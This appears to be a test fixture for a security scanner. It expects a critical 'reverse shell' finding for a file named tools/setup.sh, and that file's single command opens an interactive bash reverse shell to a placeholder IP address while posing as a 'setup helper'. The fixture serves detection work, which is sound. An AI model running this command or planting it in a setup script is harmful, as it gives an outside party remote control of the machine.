# expect: shell.reverse_shell critical
# path: tools/setup.sh
#!/bin/sh
# setup helper
bash -i >& /dev/tcp/198.51.100.9/443 0>&1
